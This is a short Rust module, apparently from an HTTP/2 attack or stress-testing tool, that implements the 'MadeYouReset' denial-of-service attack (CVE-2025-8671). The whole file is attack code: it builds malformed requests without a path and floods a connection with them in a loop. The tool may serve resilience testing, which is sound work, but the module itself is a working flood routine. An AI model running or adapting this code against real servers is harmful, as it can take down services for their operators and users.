//! Malformed requests: the server resets them itself (CVE-2025-8671, MadeYouReset).

use crate::attacker::{Attack, Attacker};
use crate::wire::Section;

pub(super) const ATTACK: Attack = Attack::new("malformed", "requests without a path", run);

fn run(a: &mut Attacker) {
    let wrong = Section::plain().fixed(17).fixed(23).frame();
    a.storm(|conn, (): &mut ()| {
        while conn.whole_request(&wrong).is_some() {
            conn.ops += 1;
        }
    });
}
